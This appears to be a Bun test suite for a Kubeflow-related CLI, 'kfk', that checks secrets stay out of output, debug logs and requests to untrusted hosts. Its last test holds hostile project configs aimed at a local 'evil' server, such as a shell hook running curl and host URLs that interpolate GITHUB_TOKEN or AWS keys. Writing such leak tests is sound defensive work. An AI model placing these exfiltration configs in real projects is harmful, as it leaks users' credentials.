/** Secrets in the hands of others, and in those of the machine: what the built binary prints, keeps and leaves behind. */
import { afterAll, afterEach, describe, expect, test } from "bun:test";
import {
  chmodSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { endOf, KFK, testProjects, type Ran } from "../hooks/setup-project.ts";
import { startIdentity } from "../judges/identity.ts";

const projects = testProjects();
const scratch = mkdtempSync(join(tmpdir(), "kfk-leaks-"));
const stops: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const stop of stops.splice(0)) await stop();
});
afterAll(() => {
  projects.remove();
  rmSync(scratch, { recursive: true, force: true });
});

async function kfk(
  argv: readonly string[],
  env: Record<string, string> = {},
  files: Record<string, string> = {},
): Promise<Ran> {
  return await endOf(projects.make(files).start(argv, env));
}

function serve(answer: (request: Request, body: string) => Response | Promise<Response>): {
  readonly origin: string;
  readonly asked: string[];
} {
  const asked: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: async (request) => {
      const body = await request.text();
      asked.push(
        `${request.method} ${request.url}\n${[...request.headers].map(([name, text]) => `${name}: ${text}`).join("\n")}\n${body}`,
      );
      return await answer(request, body);
    },
  });
  stops.push(() => server.stop(true));
  return { origin: `http://127.0.0.1:${server.port}`, asked };
}

const healthy = (request: Request): Response =>
  Response.json(request.url.includes("healthz") ? { tag_name: "2.5.0", commit_sha: "a", multi_user: false } : {});
const status = (origin: string, ...more: string[]): string[] => ["auth", "status", "--host", origin, ...more];

/** No part of eight characters of a secret, whichever way it is written. */
function expectNothingOf(secret: string, text: string): void {
  const forms = [secret, encodeURIComponent(secret), btoa(secret), btoa(`team:${secret}`), btoa(`me:${secret}`)];
  for (const form of forms) {
    for (let at = 0; at + 8 <= form.length; at++) expect(text).not.toContain(form.slice(at, at + 8));
  }
}

describe("5: what third parties repeat", () => {
  const SECRET = "Zq7/canary+secret=9xK&w";
  const OIDC = { KFK_OIDC_CLIENT_ID: "team", KFK_OIDC_CLIENT_SECRET: SECRET };
  const repeating = (request: Request, body: string): string => {
    const basic = (request.headers.get("authorization") ?? "").replace(/^\w+ /, "");
    let pair = "";
    try {
      pair = atob(basic);
    } catch {
      // it is a token
    }
    return `you sent ${basic} that is ${pair} that is ${decodeURIComponent(pair)} with ${body} that is ${decodeURIComponent(body)}`;
  };

  test.each([0, 150, 170, 190])(
    "an identity provider, %d characters before the end of what is shown",
    async (before) => {
      const idp = serve((request, body) =>
        Response.json(
          { error: "invalid_client", error_description: `${"x".repeat(before)} ${repeating(request, body)}` },
          { status: 401 },
        ),
      );
      const host = serve(healthy);
      const {
        status: code,
        out,
        err,
      } = await kfk(status(host.origin), { ...OIDC, KFK_OIDC_TOKEN_URL: `${idp.origin}/token` });
      expect({ code, asked: host.asked }).toEqual({ code: 4, asked: [] });
      expect(err).toContain("invalid_client");
      expectNothingOf(SECRET, out + err);
    },
  );

  test("an identity provider, of a secret in a file", async () => {
    const idp = serve((request, body) => Response.json({ error: repeating(request, body) }, { status: 400 }));
    const { KFK_OIDC_CLIENT_SECRET: _, ...rest } = OIDC;
    const env = { ...rest, KFK_OIDC_CLIENT_SECRET_FILE: "secret", KFK_OIDC_TOKEN_URL: `${idp.origin}/token` };
    const { out, err } = await kfk(status("http://127.0.0.1:1"), env, { secret: `${SECRET}\n` });
    expect(err).toContain("[redacted]");
    expectNothingOf(SECRET, out + err);
  });

  test("Google, of a refresh token and the client's secret", async () => {
    const google = serve((request, body) =>
      Response.json({ error: "invalid_grant", error_description: repeating(request, body) }, { status: 400 }),
    );
    const adc = {
      type: "authorized_user",
      client_id: "gcloud",
      client_secret: SECRET,
      refresh_token: "1//canary-refresh-token-of-mine",
      token_uri: `${google.origin}/token`,
    };
    const env = {
      GOOGLE_APPLICATION_CREDENTIALS: "adc.json",
      IAP_CLIENT_ID: "x.apps.example",
      KFK_IMPERSONATE: "a@b",
      KFK_GOOGLE_ENDPOINT: google.origin,
    };
    const { out, err } = await kfk(status("http://127.0.0.1:1"), env, { "adc.json": JSON.stringify(adc) });
    expect(err).toContain("invalid_grant");
    expectNothingOf(SECRET, out + err);
    expectNothingOf(adc.refresh_token, out + err);
  });

  test("Kubernetes, of the token of kubeconfig", async () => {
    const api = serve((request, body) =>
      Response.json({ kind: "Status", apiVersion: "v1", message: repeating(request, body) }, { status: 401 }),
    );
    const kube = [
      "current-context: here",
      `clusters: [{name: c, cluster: {server: "${api.origin}"}}]`,
      "contexts: [{name: here, context: {cluster: c, user: u, namespace: team-a}}]",
      "users: [{name: u, user: {token: canary-Xq81mZ-04}}]",
    ].join("\n");
    const { out, err } = await kfk(
      status("http://127.0.0.1:1"),
      { KFK_AUTH: "kubeconfig", KUBECONFIG: "kube" },
      { kube },
    );
    expect(err).toContain("says no (401: you sent [redacted]");
    expectNothingOf("canary-Xq81mZ-04", out + err);
  });

  test.each([
    [["auth", "status"], 400],
    [["auth", "status", "-o", "json"], 401],
    [["doctor", "-o", "json"], 403],
    [["list-runs", "-o", "json"], 500],
  ] as const)("the server, of a password and of what else the environment holds: %p", async (argv, code) => {
    const host = serve((request, body) =>
      request.url.includes("healthz")
        ? healthy(request)
        : Response.json(
            { error: `no: ${repeating(request, body)} ${SECRET}x canary-cloud-key-1`, code: 3 },
            { status: code },
          ),
    );
    const env = { KFK_BASIC_USER: "me", KFK_BASIC_PASSWORD: SECRET, AWS_SECRET_ACCESS_KEY: "canary-cloud-key-1" };
    const { out, err } = await kfk([...argv, "--host", host.origin, "--request-timeout", "1"], env);
    expect(out + err).toContain("[redacted]");
    expectNothingOf(SECRET, out + err);
    expectNothingOf("canary-cloud-key-1", out + err);
  });

  test("a program's errors are not shown", async () => {
    const env = { KFK_AUTH_EXEC: JSON.stringify(["/bin/sh", "-c", "echo canary-of-a-program >&2; exit 3"]) };
    const { status: code, out, err } = await kfk(status("http://127.0.0.1:1"), env);
    expect(code).toBe(4);
    expect(err).toContain("/bin/sh ended with status 3");
    expectNothingOf("canary-of-a-program", out + err);
  });

  test("a hook, of what it was given, and of what it hides itself", async () => {
    const idp = serve((request) =>
      request.url.endsWith("/good")
        ? Response.json({ access_token: "canary-token-of-a-hook" })
        : Response.json({ error: "no" }, { status: 400 }),
    );
    const hook = `import { defineHooks } from "kfk";
export default defineHooks({ auth: async ({ origin }, { hide, redact, readText, fetch }) => {
  const own = readText("own") ?? "";
  hide(own);
  console.log("I have " + own);
  const { access_token: token } = JSON.parse(await (await fetch("${idp.origin}/good", {})).text());
  console.log("I got " + token + " or " + redact(token));
  throw new Error("cannot use " + own + " nor " + token);
} });`;
    const {
      status: code,
      out,
      err,
    } = await kfk(status("http://127.0.0.1:1"), {}, { "kfk.hooks.ts": hook, own: "canary-of-my-own" });
    expect(code).toBe(3);
    expect(err).toContain("cannot use [redacted] nor [redacted]");
    expectNothingOf("canary-token-of-a-hook", out + err);
    expectNothingOf("canary-of-my-own", out + err);
  });
});

test.each(["doctor", "doctor -o json", "auth status"])(
  "what is wrong with a project shows no secret of the environment: %s",
  async (line) => {
    const yaml = "host: http://127.0.0.1:1\nrun_config: {image: x, service_account: 'a${oc.env:GITHUB_TOKEN}'}\n";
    const env = { GITHUB_TOKEN: "CANARYofletters" };
    const { status: code, out, err } = await kfk(line.split(" "), env, { "conf/base/kubeflow.yaml": yaml });
    expect({ code, shown: (out + err).includes("CANARY") }).toEqual({ code: 3, shown: false });
    expect(out + err).toContain("run_config.service_account");
  },
);

test("a hook's fetch takes no address without TLS, as its contract says", async () => {
  const hook = `import { defineHooks } from "kfk";
export default defineHooks({ auth: async (_server, { fetch }) => {
  await fetch("http://id.example.org/token", { method: "POST", body: "client_secret=some-secret" });
  return {};
} });`;
  const asked = await kfk(status("http://127.0.0.1:1"), {}, { "kfk.hooks.ts": hook });
  expect(asked.status).toBe(3);
  expect(asked.err).toContain("http://id.example.org is asked for a login without TLS: use an https address");
});

describe("5: GitHub Actions", () => {
  const given = async (env: Record<string, string>) => {
    const idp = serve(() => Response.json({ access_token: "canary%token-of-oidc", expires_in: 900 }));
    const host = serve(healthy);
    const all = {
      KFK_OIDC_TOKEN_URL: `${idp.origin}/token`,
      KFK_OIDC_CLIENT_ID: "team",
      KFK_OIDC_CLIENT_SECRET: "canary-client-secret",
      ...env,
    };
    return await kfk(status(host.origin), all);
  };

  test("what the runner would mask is not written out either, so that no copy of a log holds it", async () => {
    for (const env of [{ GITHUB_ACTIONS: "true" }, {}] as const) {
      const { status: code, out, err } = await given(env);
      expect(code).toBe(0);
      expect(out).toContain("login     oidc");
      expect(out + err).not.toMatch(/canary|add-mask/);
      expect(out + err).not.toContain(btoa("team:canary-client-secret"));
    }
  });
});

describe("11: the machine", () => {
  const HIDDEN = { KFK_COOKIE: "session=canary-session" };

  test.each([
    ["BUN_CONFIG_VERBOSE_FETCH", "curl"],
    ["BUN_CONFIG_VERBOSE_FETCH", "1"],
    ["BUN_CONFIG_VERBOSE_FETCH", "true"],
    ["NODE_DEBUG", "http,https,net,tls,fetch,undici"],
    ["DEBUG", "*"],
    ["BUN_DEBUG_ALL", "1"],
    ["BUN_DEBUG", "dump"],
    ["NODE_OPTIONS", "--trace-warnings --inspect"],
    ["SSLKEYLOGFILE", "keys"],
    ["NODE_V8_COVERAGE", "coverage"],
    ["BUN_OPTIONS", "--verbose"],
    ["BUN_OPTIONS", "--cpu-prof"],
  ])("%s=%s shows no login", async (name, text) => {
    const host = serve(healthy);
    const project = projects.make({});
    const child = project.start(status(host.origin), { ...HIDDEN, [name]: text });
    const [out, err] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text()]);
    expect(await child.exited).toBe(0);
    expect(host.asked[0]).toContain("session=canary-session");
    expect(out + err).not.toContain("canary");
    for (const file of readdirSync(project.folder, { recursive: true, encoding: "utf8" })) {
      const path = join(project.folder, file);
      if (/prof|keys|dump|coverage/.test(file) && existsSync(path) && !readdirSync(project.folder).includes("x")) {
        expect(
          await Bun.file(path)
            .text()
            .catch(() => ""),
        ).not.toContain("canary");
      }
    }
  });

  test.each(["--heap-prof", "--inspect", "--smol --heap-prof-md"])(
    "BUN_OPTIONS=%s is refused before a login is read",
    async (text) => {
      const host = serve(healthy);
      const { status: code, err } = await kfk(status(host.origin), { ...HIDDEN, BUN_OPTIONS: text });
      expect({ code, asked: host.asked }).toEqual({ code: 4, asked: [] });
      expect(err).toContain("which would show the login to others");
    },
  );

  test.each([
    [0o600, false],
    [0o640, true],
    [0o644, true],
  ])("a token file of mode %o", async (mode, isTold) => {
    const host = serve(healthy);
    const file = join(scratch, `token-${mode}`);
    writeFileSync(file, "canary-token\n");
    chmodSync(file, mode);
    const { status: code, err } = await kfk([...status(host.origin), "--token-file", file]);
    expect(code).toBe(0);
    const words = `warning: ${file} holds a login, and others on this machine can read it\n  hint: chmod 600 ${file}\n`;
    expect(err.split(words).length - 1).toBe(isTold ? 1 : 0);
  });
});

test.each([
  ["a description before it", "Certificate:\n    Data:\n        Version: 3\n", false],
  ["a key beside it", "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n", true],
])("a certificate that others can read, with %s", async (_name, before, isTold) => {
  const file = join(scratch, `certificate-${isTold}`);
  writeFileSync(file, `${before}-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n`);
  chmodSync(file, 0o644);
  const env = { KFK_CLIENT_CERT: file, KFK_CLIENT_KEY: file };
  const { err } = await kfk(status("http://127.0.0.1:1"), env);
  expect(err.includes("others on this machine can read it")).toBe(isTold);
});

test("a token out of a pipe of the shell is read once and sent as long as it holds", async () => {
  const host = serve((request) =>
    request.headers.get("authorization") === "Bearer canary-piped"
      ? healthy(request)
      : new Response("", { status: 401 }),
  );
  const { folder } = projects.make({});
  const child = Bun.spawn(
    ["bash", "-c", `${KFK} auth status --host ${host.origin} --token-file <(echo canary-piped)`],
    { cwd: folder, env: { HOME: scratch, PATH: "/usr/bin:/bin" }, stdin: "ignore", stdout: "pipe", stderr: "pipe" },
  );
  const { status: code, out, err } = await endOf(child);
  expect({ code, err: err.includes("canary") }).toEqual({ code: 0, err: false });
  expect(out).toContain("known     the server let us list experiments\n");
});

describe("a program that gives the login", () => {
  const wait = async (isReady: () => boolean): Promise<void> => {
    const endMs = Date.now() + 10_000;
    while (!isReady() && Date.now() < endMs) await Bun.sleep(20);
  };
  const isAlive = (pid: number): boolean => {
    try {
      process.kill(pid, 0);
      return !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, "utf8"));
    } catch {
      return false;
    }
  };

  test.each([
    ["SIGINT", 130, "interrupted while /bin/sh was asked for a login"],
    ["SIGTERM", 143, "terminated while /bin/sh was asked for a login"],
  ] as const)("%s ends it and what it started", async (signal, code, words) => {
    const pids = join(scratch, `pids-${signal}`);
    const program = ["/bin/sh", "-c", `sleep 300 & echo $$ $! > ${pids}.new; mv ${pids}.new ${pids}; wait`];
    const child = projects.make({}).start(status("http://127.0.0.1:1"), { KFK_AUTH_EXEC: JSON.stringify(program) });
    await wait(() => existsSync(pids));
    const started = readFileSync(pids, "utf8").trim().split(" ").map(Number);
    child.kill(signal);
    expect(await child.exited).toBe(code);
    expect(await new Response(child.stderr).text()).toContain(words);
    await wait(() => !started.some(isAlive));
    expect(started.map(isAlive)).toEqual([false, false]);
  });

  test("one that cannot be run", async () => {
    const { status: code, err } = await kfk(status("http://127.0.0.1:1"), { KFK_AUTH_EXEC: "./none" }, { none: "x" });
    expect(code).toBe(4);
    expect(err).toContain("./none cannot be run");
  });
});

test.each([
  "conf/base/kubeflow.yaml",
  "conf/base/catalog.yml",
  "conf/base/parameters.yml",
  "src/spaceflights/pipeline_registry.py",
  "src/spaceflights/pipelines/reporting/pipeline.py",
  "kfk.hooks.ts",
])("4: %s of a project that is a link to somebody's secret shows none of its lines", async (name) => {
  const secret = join(scratch, "linked");
  writeFileSync(secret, "opaque-canary-77 plain: [\n");
  const project = projects.make({});
  rmSync(join(project.folder, name), { force: true });
  symlinkSync(secret, join(project.folder, name));
  for (const [cwd, more, follow] of [
    [project.folder, [], "1"],
    [join(project.folder, "conf"), [], "1"],
    [scratch, ["-C", project.folder], "1"],
    [project.folder, [], "0"],
  ] as const) {
    const env = { HOME: scratch, PATH: "/usr/bin:/bin", KFK_FOLLOW_LINKS: follow };
    const child = Bun.spawn([KFK, "compile", "-o", "-", ...more], { cwd, env, stdout: "pipe", stderr: "pipe" });
    const [out, err] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text()]);
    expect(await child.exited).toBe(3);
    if (follow === "1" || name === "kfk.hooks.ts") expect(err).toMatch(/--> .*:\d+:\d+/);
    else expect(err).toStartWith(`error: ${name} lies outside the project, at ${secret}, and is not read`);
    expect(out + err).not.toContain("canary");
  }
});

test.each(["experiment_name", "run_name"])(
  "4: %s of a project carries nothing of the environment to its host",
  async (key) => {
    const evil = serve(healthy);
    const { status: code, err } = await kfk(
      ["run-once"],
      { GITHUB_TOKEN: "canary-github-token" },
      {
        "conf/base/kubeflow.yaml": `host: ${evil.origin}\nrun_config: {image: x, volume: {}, ${key}: "x-\${oc.env:GITHUB_TOKEN}"}\n`,
      },
    );
    expect(evil.asked.join("\n")).not.toContain("canary");
    expect(err).not.toContain("canary");
    expect(code).not.toBe(0);
  },
);

test("a project of somebody else's, in a job full of credentials, gets and shows none of them", async () => {
  const idp = await startIdentity({ nowMs: () => Date.now() });
  stops.push(idp.stop);
  const home = mkdtempSync(join(scratch, "home-"));
  const put = (path: string, text: string): void => {
    Bun.spawnSync(["/bin/mkdir", "-p", join(home, path, "..")]);
    writeFileSync(join(home, path), text, { mode: 0o600 });
  };
  put(".config/gcloud/application_default_credentials.json", idp.files.user);
  put(".config/kfp/context.json", '{"client_authentication_cookie": "s=canary-kfp"}');
  put(".kube/config", idp.files.kubeconfig('{token: "canary-kube"}'));
  put("sa", "canary-sa");
  put("secret", "canary-secret-file");
  const env = {
    HOME: home,
    KF_PIPELINES_SA_TOKEN_PATH: join(home, "sa"),
    GOOGLE_APPLICATION_CREDENTIALS: join(home, ".config/gcloud/application_default_credentials.json"),
    KFK_GOOGLE_ENDPOINT: idp.url,
    KFK_OIDC_CLIENT_SECRET: "canary-oidc",
    AWS_SECRET_ACCESS_KEY: "canary-aws-1",
    GITHUB_TOKEN: "canary-github",
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: "canary-actions",
    GITHUB_ACTIONS: "true",
  };
  const evil = serve((request) => Response.json({ echo: request.url }, { status: 401 }));
  const host = `host: ${evil.origin}\n`;
  const attacks: readonly string[] = [
    host,
    ...[
      "service-account",
      "kfp-context",
      "kubeconfig",
      "iap-jwt",
      "inverting-proxy",
      "token",
      "iap",
      "oidc",
      "[iap, dex, kubeconfig]",
    ].map((name) => `${host}auth: ${name}\n`),
    `${host}auth: {type: token, file: ${home}/sa}\n`,
    `${host}auth: {type: service-account, file: ${home}/secret}\n`,
    `${host}auth: {type: oidc, token_url: ${evil.origin}/token, client_id: x}\n`,
    `${host}auth: {type: kubeconfig, audience: "https://kubernetes.default.svc", service_account: admin}\n`,
    `${host}auth: {type: iap, client_id: x, impersonate: admin@x}\n`,
    `${host}auth: {exec: {command: [/bin/sh, -c, "curl ${evil.origin}"]}}\n`,
    `${host}auth: {mtls: {cert: ${home}/sa}}\n`,
    `host: ${evil.origin}/\${oc.env:GITHUB_TOKEN}\n`,
    `host: ${evil.origin}/\${env:GITHUB_TOKEN}\n`,
    `host: ${evil.origin}/\${GITHUB_TOKEN}\n`,
    `host: http://\${oc.env:AWS_SECRET_ACCESS_KEY}@${evil.origin.slice(7)}\n`,
    `host: http://me:canary-in-the-file@${evil.origin.slice(7)}\n`,
  ];
  const rest = "run_config: {image: x, volume: {}}\n";
  for (const argv of [["auth", "status"], ["doctor"]]) {
    for (const attack of attacks) {
      const { out, err } = await kfk(argv, env, {
        "conf/base/kubeflow.yaml": attack + rest,
        ".env": "KFK_TRUST_HOSTS=127.0.0.1\nKFK_ALLOW_HTTP=1\n",
        ".config/kfk/config.yaml": "trust_hosts: [127.0.0.1]\n",
      });
      expect({ attack, shown: /canary[\w-]*/.exec(out + err)?.[0] }).toEqual({ attack, shown: undefined });
    }
  }
  expect(evil.asked.filter((text) => /canary|authorization|cookie|eyJ|ya29/i.test(text))).toEqual([]);
  expect(idp.seen).toEqual([]);
}, 60_000);
